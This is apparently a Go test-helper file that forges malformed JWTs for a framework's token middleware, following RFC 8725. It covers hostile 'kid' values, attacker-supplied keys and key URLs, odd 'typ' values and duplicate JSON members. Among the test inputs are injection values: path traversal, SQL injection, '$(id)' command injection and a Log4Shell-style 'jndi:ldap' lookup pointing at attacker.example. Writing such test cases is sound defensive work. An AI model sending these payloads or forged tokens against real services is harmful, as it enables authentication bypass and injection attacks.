package tokentest

import (
	"context"
	"crypto"
	"crypto/ed25519"
	"encoding/json"
	"fmt"
	"net/http/httptest"
	"strings"

	"github.com/sojourn-go/sojourn/middleware/token"
)

// keyIDs: kid leads nowhere but into the ring (RFC 8725 §3.10).
func (f *forge) keyIDs() {
	for _, id := range []any{
		"../../../../../../dev/null", "/dev/null", "file:///dev/null", "%2e%2e%2fdev%2fnull", `..\..\nul`,
		"https://attacker.example/jwks.json", "//attacker.example/key", "data:text/plain,secret",
		"x' UNION SELECT 'secret' -- ", `"; DROP TABLE keys; --`, "$(id)", "|id", "{{7*7}}", "${jndi:ldap://attacker.example/a}",
		f.key.ID + "\x00", f.key.ID + "\x00.pem", "\x00", f.key.ID + " ", " " + f.key.ID, f.key.ID + "\n",
		"", "*", "null", "unknown", nil, absent, 0, 1.5, true,
		[]string{f.key.ID},
		map[string]string{"kid": f.key.ID},
		strings.Repeat("k", 64<<10), strings.Repeat("k", 2<<10), strings.Repeat("../", 600),
	} {
		name := fmt.Sprint(id)
		if len(name) > 40 {
			name = fmt.Sprintf("%.10s… of %d bytes", name, len(name))
		}
		f.withHeader(fmt.Sprintf("kid %T %q", id, name), "kid", id)
	}
	// What a key read from /dev/null would verify.
	header := encode(text(map[string]any{"alg": "HS256", "kid": "../../../dev/null", "typ": "at+jwt"}))
	message := header + "." + encode(text(f.claims))
	f.add("kid of an empty file, HMAC without a secret", message+"."+encode(signature("HS256", []byte{}, message)))
}

// parameters: a token brings its own key, or asks for what an access token has
// no use for (RFC 7515 §4.1, RFC 7797, RFC 8725 §3.10).
func (f *forge) parameters() {
	public, private := must2(ed25519.GenerateKey(nil))
	attacker := Key{"attacker", private}
	own := forge{key: attacker, alg: "EdDSA", claims: f.claims}
	x, n := encode(string(public)), encode(strings.Repeat("n", 256))
	jwk := map[string]string{"kty": "OKP", "crv": "Ed25519", "x": x}
	for parameter, value := range map[string]any{
		"jwk":      jwk,
		"jku":      "https://attacker.example/jwks.json",
		"x5u":      "https://attacker.example/cert.pem",
		"x5c":      []string{"MIIB"},
		"x5t":      encode(strings.Repeat("t", 20)),
		"x5t#S256": encode(strings.Repeat("t", 32)),
	} {
		f.withHeader(parameter+" beside a good signature", parameter, value)
		for _, kid := range []any{f.key.ID, "attacker", absent} {
			header := with(with(own.header(), parameter, value), "kid", kid)
			f.add(fmt.Sprintf("%s of the attacker, kid %v", parameter, kid), own.sign(header, f.claims))
		}
	}
	f.withHeader("jwk RSA beside a good signature", "jwk", map[string]string{"kty": "RSA", "n": n, "e": "AQAB"})
	f.withHeader("jwk null", "jwk", nil)
	if _, ok := f.key.Private.(crypto.Signer); ok {
		f.withHeader("jwk of the signing key itself", "jwk", publicJWK(f.key))
	}
	for name, crit := range map[string]any{
		"empty": []string{}, "unknown": []string{"urn:example:unknown"}, "known": []string{"exp"}, "alg": []string{"alg"},
		"b64": []string{"b64"}, "null": nil, "a string": "exp", "a number": 1, "nested": []any{[]string{"exp"}},
	} {
		f.withHeader("crit "+name, "crit", crit)
	}
	f.add("crit with what it names", f.sign(with(with(f.header(), "crit", []string{"exp"}), "exp", 1), f.claims))
	detached := with(with(f.header(), "crit", []string{"b64"}), "b64", false)
	f.add("b64 false with crit", f.sign(detached, f.claims))
	message := encode(text(detached)) + "." + text(f.claims)
	f.add("b64 false with crit, claims not encoded", f.signText(message))
	for parameter, values := range map[string][]any{
		"b64": {false, true, "false", nil},
		"zip": {"DEF", "", nil},
		"cty": {"JWT", "at+jwt", "application/json"},
		"enc": {"A256GCM"}, "epk": {map[string]string{"kty": "OKP"}}, "apu": {"QQ"}, "p2c": {1 << 40}, "p2s": {"QQ"},
		"iv": {"QQ"}, "tag": {"QQ"}, "url": {"https://attacker.example/"}, "nonce": {"n"}, "ath": {"a"}, "iss": {"i"},
		"aud": {"a"}, "exp": {1}, "x-extra": {1}, "": {1}, "__proto__": {map[string]int{}},
	} {
		for _, value := range values {
			f.withHeader(fmt.Sprintf("header parameter %q %T %v", parameter, value, value), parameter, value)
		}
	}
}

// types: another kind of token in the place of an access token (RFC 8725
// §3.11).
func (f *forge) types() {
	for _, typ := range []any{
		"JWT", "jwt", "application/jwt", "", nil, absent, 0, true,
		[]string{"at+jwt"},
		map[string]string{"typ": "at+jwt"},
		"dpop+jwt", "secevent+jwt", "refresh+jwt", "rt+jwt", "dbsc+jwt", "logout+jwt", "token-introspection+jwt",
		"id_token+jwt", "oauth-authz-req+jwt", "client-authentication+jwt", "vc+jwt", "kb+jwt", "JOSE", "JOSE+JSON",
		"AT+JWT", "At+Jwt", "at+JWT", "application/AT+JWT", "Application/at+jwt", "at+jwt ", " at+jwt", "at+jwt\x00",
		"at+jwt;charset=utf-8", "at+jwt, JWT", "x/at+jwt", "application/application/at+jwt", "at jwt", "at%2Bjwt", "аt+jwt",
	} {
		f.withHeader(fmt.Sprintf("typ %T %q", typ, fmt.Sprint(typ)), "typ", typ)
	}
}

// duplicates: two members of one name, of which two readers may take different
// ones (RFC 7519 §4).
func (f *forge) duplicates() {
	header, claims := text(f.header()), text(f.claims)
	inHeader := func(name, member string) {
		f.add("header has "+name+" first", f.sign("{"+member+","+header[1:], claims))
		f.add("header has "+name+" last", f.sign(header[:len(header)-1]+","+member+"}", claims))
	}
	inHeader("alg twice", `"alg":"none"`)
	inHeader("alg twice, the same", `"alg":"`+f.alg+`"`)
	inHeader("alg twice, once escaped", `"\u0061lg":"none"`)
	inHeader("alg in another case as well", `"ALG":"none"`)
	inHeader("kid twice", `"kid":"attacker"`)
	inHeader("kid twice, once escaped", `"k\u0069d":"attacker"`)
	inHeader("kid with a Kelvin sign as well", `"\u212aid":"attacker"`)
	inHeader("typ twice", `"typ":"JWT"`)
	inHeader("an empty name twice", `"":1,"":2`)

	inClaims := func(name, member string) {
		f.add("claims have "+name+" first", f.sign(header, "{"+member+","+claims[1:]))
		f.add("claims have "+name+" last", f.sign(header, claims[:len(claims)-1]+","+member+"}"))
	}
	inClaims("sub twice", `"sub":"mallory"`)
	inClaims("sub twice, once escaped", `"\u0073ub":"mallory"`)
	inClaims("sub in another case as well", `"Sub":"mallory"`)
	inClaims("sub with a long s as well", `"ſub":"mallory"`)
	inClaims("sub with an escaped long s as well", `"\u017fub":"mallory"`)
	inClaims("exp twice", `"exp":99999999999`)
	inClaims("iss twice, once null", `"iss":null`)
	inClaims("aud twice, once an array", `"aud":["other"]`)
	inClaims("sj_epoch twice", `"sj_epoch":9`)
	inClaims("an unknown claim twice", `"x":1,"x":1`)
	inClaims("a name twice in an object", `"x":{"y":1,"y":2}`)
	inClaims("a name twice in an object in an array", `"x":[0,{"y":{"z":1,"\u007a":2}}]`)

	for _, name := range []string{"alg", "kid", "typ"} {
		h := with(f.header(), strings.ToUpper(name), f.header()[name])
		f.add("header has "+strings.ToUpper(name)+" for "+name, f.sign(with(h, name, absent), claims))
	}
	for name, value := range f.claims {
		c := with(f.claims, strings.ToUpper(name), value)
		if name == "acr" || name == "amr" || name == "auth_time" || name == "cnf" {
			continue // without these a token is valid
		}
		f.add("claims have "+strings.ToUpper(name)+" for "+name, f.sign(header, with(c, name, absent)))
	}
}

// publicJWK returns what is published of a key.
func publicJWK(k Key) json.RawMessage {
	w := httptest.NewRecorder()
	must(token.NewKeys(must(token.NewKey(k.ID, k.Private)))).ServeHTTP(w, httptest.NewRequestWithContext(context.Background(), "GET", "/", nil))
	var set struct{ Keys []json.RawMessage }
	if err := json.Unmarshal(w.Body.Bytes(), &set); err != nil {
		panic(err)
	}
	return set.Keys[0]
}
